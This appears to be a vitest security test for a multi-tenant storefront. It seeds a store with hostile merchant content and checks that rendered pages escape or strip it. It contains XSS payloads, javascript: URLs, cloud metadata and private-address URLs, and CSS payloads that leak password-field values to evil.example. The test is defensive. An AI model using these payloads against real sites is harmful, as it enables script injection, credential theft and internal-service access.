import { env, SELF } from 'cloudflare:test'
import { beforeAll, describe, expect, it } from 'vitest'
import { StoreImport, type StoreImportInput } from '../../../domain/schemas/store-import'
import { Theme, type ThemeInput } from '../../../domain/schemas/theme'
import { buildStore, seedStore } from '../../support/factories/store'
import {
  cspNonce,
  hostOf,
  inspectPage,
  isScriptUrl,
  type PageFacts,
  pointsAtPrivateHost,
} from '../../support/harness/security/page-inspector'

/**
 * Claim: merchant content is untrusted. A store whose every theme string, product text and
 * custom CSS is hostile renders pages on which nothing of the merchant's can run: no
 * script element without the request's nonce, no event-handler attribute, no script URL,
 * no URL to a private address, no way out of the <style> element, and custom CSS without
 * @import, expression(), foreign url()s or attribute selectors that read form fields.
 */

const STORE = 'hostile'
const HOST = `${STORE}.localhost`

const SCRIPT = '<script>alert(1)</script>'
const TEXT = `</title></style></script>${SCRIPT}<img src=x onerror=alert(1)><svg onload=alert(1)>"'&`
const short = (tag: string) => `${tag} ${TEXT}`.slice(0, 200)

/** URLs that run script or reach private hosts, one per URL field, in the spellings filters miss. */
const BAD_URLS = [
  'javascript:alert(1)',
  'JaVaScRiPt:alert(document.cookie)',
  ' javascript:alert(1)',
  'java\tscript:alert(1)',
  'data:text/html,<script>alert(1)</script>',
  'vbscript:msgbox(1)',
  'https://127.0.0.1/logo.png',
  'http://169.254.169.254/latest/meta-data/',
  'https://[::1]/hero.png',
  'https://0x7f000001/cat.png',
  'https://localhost/fav.ico',
  'https://10.0.0.7/seo.png',
  'https://[::ffff:192.168.0.1]/about.png',
  'https://2130706433/x',
  'http://metadata.google.internal/computeMetadata/v1/',
]
let nextUrl = 0
const badUrl = () => BAD_URLS[nextUrl++ % BAD_URLS.length]

const HOSTILE_CSS = [
  '.hostile-ok{color:#123456}',
  `</style>${SCRIPT}<style>`,
  '@import url(https://evil.example/steal.css);',
  '@import "https://evil.example/steal2.css";',
  '.a{background:url(javascript:alert(1))}',
  '.b{background:url("http://10.0.0.1/x.png")}',
  '.c{width:expression(alert(1))}',
  '@\\import url(https://evil.example/escaped.css);',
  'input[value^="a"]{background:url(https://evil.example/a)}',
  '[*|value^="b"]{background:url(https://evil.example/b)}',
  'form input[type=password][value$="c"]{background:url(https://evil.example/c)}',
  '.d{background:url(https://evil.example/beacon.png)}',
  '.e{background-image:image-set("https://192.168.1.1/x.png" 1x)}',
  '.e2{background-image:-webkit-image-set("https://evil.example/y.png" 1x)}',
  '.f{behavior:url(x.htc)}',
  '.g{-moz-binding:url(https://evil.example/x.xml#x)}',
  '@font-face{font-family:leak;src:url(https://evil.example/f.woff);unicode-range:U+0061}',
  `.h{background:url(${'https://cdn.hostile.example/ok.png'})}`,
  '.h2{background:url(/mockups/ok.svg)}',
].join('\n')

function hostileTheme(): ThemeInput {
  return {
    meta: {
      storeName: short('Store'),
      mailchimpUserId: short('mc'),
      mailchimpAudienceId: short('aud'),
      newsletterAction: 'javascript:alert(1)',
      gaToken: `G-ABC'"><script>alert(1)</script>`,
      facebookPixel: '123"><script>alert(1)</script>',
      gmcMerchantId: '1</script><script>alert(1)</script>',
      seo: { title: short('SEO'), description: TEXT, image: badUrl() },
      liveChatDisabled: 'false',
    },
    brand: {
      socialMedia: [
        { id: short('i').slice(0, 40), url: badUrl(), icon: 'instagram' },
        { id: 'tw', url: badUrl(), icon: 'twitter' },
        { id: 'yt', url: badUrl(), icon: 'youtube' },
      ],
    },
    styles: {
      typography: { headingFont: `Inter</style>${SCRIPT}`, bodyFont: `x;}</style>${SCRIPT}`, fontUrl: 'https://127.0.0.1/fonts.css' },
      customCSS: HOSTILE_CSS,
    },
    content: {
      favicon: badUrl(),
      header: {
        template: '1',
        logoUrl: badUrl(),
        logoLink: badUrl(),
        links: [
          { label: short('Link'), url: badUrl() },
          { label: short('Link2'), url: badUrl() },
          { label: 'Apparel', url: '/apparel' },
        ],
        showAbout: true,
      },
      heroBanner: {
        template: '2',
        title: short('Hero'),
        subtitle: short('Sub'),
        body: TEXT,
        imageUrl: 'https://cdn.hostile.example/hero.png',
        showSearch: true,
        button: { label: short('Button'), url: badUrl() },
      },
      notification: { text: short('Notice'), url: badUrl() },
      footer: { about: TEXT, copyright: short('©'), contactEmail: `a@b.c${SCRIPT}`, contactAddress: short('Addr') },
      categories: [
        { slug: short('cat'), title: short('Cat'), imageUrl: badUrl() },
        { slug: 'apparel', title: short('Apparel'), imageUrl: badUrl() },
      ],
      about: {
        heroImageUrl: badUrl(),
        blocks: [
          { type: 'paragraph', text: TEXT },
          { type: 'orderedList', items: [TEXT, short('item')] },
        ],
      },
      cartHeading: short('Cart'),
      extraPages: [{ path: '/our-story', title: short('Story'), blocks: [{ type: 'paragraph', text: TEXT }] }],
    },
  }
}

function hostileStore(): StoreImportInput {
  const store = buildStore({
    slug: STORE,
    name: 'Hostile Store',
    flags: { support: true, checkoutV2: true, legacyCheckout: false, hideCard: false, hidePaypal: false },
  })
  const listings = (store.listings ?? []).map((listing) => ({
    ...listing,
    title: short(listing.title).slice(0, 120),
    description: TEXT,
    holidayDeliveryMessage: short('Holiday'),
    products: listing.products.map((product) => ({
      ...product,
      name: short(product.name).slice(0, 120),
      details: { description: TEXT, materials: TEXT, fit: TEXT, comparableBrands: short('brands') },
    })),
  }))
  return { ...store, theme: hostileTheme(), listings }
}

const PAGES = [
  '/',
  '/about',
  '/search?searchterm=hoodie',
  '/listing/night-hoodie',
  '/night-hoodie',
  '/apparel',
  '/apparel/hoodies',
  '/cart',
  '/track',
  '/track?orderNumber=%3Cscript%3Ealert(1)%3C%2Fscript%3E',
  '/support',
  '/support/payments',
  '/contact',
  '/contact-success',
  '/terms-of-use',
  '/privacy-policy',
  '/our-story',
  '/404',
  '/no-such-page%3Cscript%3E',
  '/search?searchterm=%22%3E%3Cscript%3Ealert(1)%3C%2Fscript%3E',
]

const rendered = new Map<string, { status: number; csp: string; html: string; facts: PageFacts }>()

beforeAll(async () => {
  await seedStore(env.DB, hostileStore())
  for (const path of PAGES) {
    const response = await SELF.fetch(`http://${HOST}${path}`, { headers: { host: HOST }, redirect: 'manual' })
    const html = await response.text()
    rendered.set(path, {
      status: response.status,
      csp: response.headers.get('content-security-policy') ?? '',
      html,
      facts: await inspectPage(html),
    })
  }
})

describe.each(PAGES)('the hostile store’s page %s', (path) => {
  const page = () => {
    const found = rendered.get(path)
    if (!found) throw new Error(`${path} was not rendered`)
    return found
  }

  it('renders, with a nonce in its CSP', () => {
    expect([200, 404]).toContain(page().status)
    expect(cspNonce(page().csp)).toBeTruthy()
  })

  it('runs no script but the platform’s own, each carrying the nonce', () => {
    const nonce = cspNonce(page().csp)
    for (const script of page().facts.scripts) {
      const data = script.attributes.type === 'application/json'
      expect(data || script.attributes.nonce === nonce, JSON.stringify(script).slice(0, 300)).toBe(true)
      // Merchant text inside a script is data in a string: it cannot open or close a tag.
      expect(script.text).not.toMatch(/<\/?(script|style|!--)/i)
      if (data) expect(script.text).not.toContain('<')
    }
  })

  it('has no event-handler attribute anywhere', () => {
    expect(page().facts.handlers).toEqual([])
  })

  it('has no script URL and no URL to a private address in any attribute', () => {
    // The page's own address (a *.localhost host in tests) is not theme data.
    const bad = page().facts.urls.filter(([, , value]) => isScriptUrl(value) || (pointsAtPrivateHost(value) && hostOf(value) !== HOST))
    expect(bad).toEqual([])
  })

  it('keeps merchant CSS inside its <style> element, without imports, expressions, foreign URLs or field-reading selectors', () => {
    const nonce = cspNonce(page().csp)
    const css = page()
      .facts.styles.map((style) => style.text)
      .join('\n')
    for (const style of page().facts.styles) expect(style.attributes.nonce).toBe(nonce)
    expect(css).not.toMatch(/<\/?(style|script)/i)
    expect(css).not.toMatch(/@import/i)
    expect(css).not.toMatch(/expression\s*\(/i)
    expect(css).not.toMatch(/javascript:|behavior\s*:|-moz-binding/i)
    expect(css).not.toMatch(/\[\s*(\*?\|)?\s*(value|type)\b/i)
    expect(css).not.toMatch(/image-set\s*\(\s*["']/i)
    const urls = [...css.matchAll(/url\(\s*["']?([^"')]*)/gi)].map((match) => match[1])
    // Only paths on the store itself (no IMAGE_HOSTS are configured here).
    for (const url of urls) expect(url.startsWith('/') && !url.startsWith('//') ? null : url, url).toBeNull()
    for (const href of page().facts.stylesheets)
      expect(href.startsWith('/') || hostOf(href) === null ? href : hostOf(href)).not.toBe('127.0.0.1')
  })
})

describe('the hostile store', () => {
  it('shows merchant text as text: the markup arrives escaped, visible to the shopper, not parsed', () => {
    const home = rendered.get('/')
    expect(home?.html).toContain('&lt;script&gt;alert(1)&lt;/script&gt;')
    expect(home?.facts.text).toContain('&lt;img src=x onerror=alert(1)&gt;')
  })

  it('keeps the merchant’s ordinary CSS rules', () => {
    const css =
      rendered
        .get('/')
        ?.facts.styles.map((style) => style.text)
        .join('\n') ?? ''
    expect(css).toContain('.hostile-ok{color:#123456}')
    expect(css).toContain('/mockups/ok.svg')
    // The theme's own image host is the merchant's choice: neither its CSS nor its pages load from it.
    expect(css).not.toContain('https://cdn.hostile.example/ok.png')
  })

  it('lets its pages load images only from the store itself and its image origins, never a host the theme names', () => {
    for (const [path, page] of rendered) {
      const images = (/(?:^|;\s*)img-src ([^;]*)/.exec(page.csp)?.[1] ?? '').split(/\s+/)
      expect(images, path).toContain("'self'")
      expect(
        images.filter((source) => source.includes('hostile.example')),
        path,
      ).toEqual([])
      // Its hero image names that host: it is left out rather than shown or blocked.
      expect(page.html, path).not.toContain('https://cdn.hostile.example/hero.png')
    }
  })

  it("refuses About blocks other than the spec's paragraphs and ordered lists", () => {
    for (const block of [
      { type: 'html', html: SCRIPT },
      { type: 'script', src: 'https://evil.example/x.js' },
      { type: 'paragraph', text: 1 },
    ]) {
      const theme = { ...hostileTheme(), content: { ...hostileTheme().content, about: { blocks: [block] } } }
      expect(Theme.safeParse(theme).success, JSON.stringify(block)).toBe(false)
      expect(StoreImport.safeParse({ ...hostileStore(), theme }).success).toBe(false)
    }
  })

  it('keeps safe links of the theme', () => {
    const links =
      rendered
        .get('/')
        ?.facts.urls.filter(([tag, name]) => tag === 'a' && name === 'href')
        .map(([, , value]) => value) ?? []
    expect(links).toContain('/apparel')
  })
})
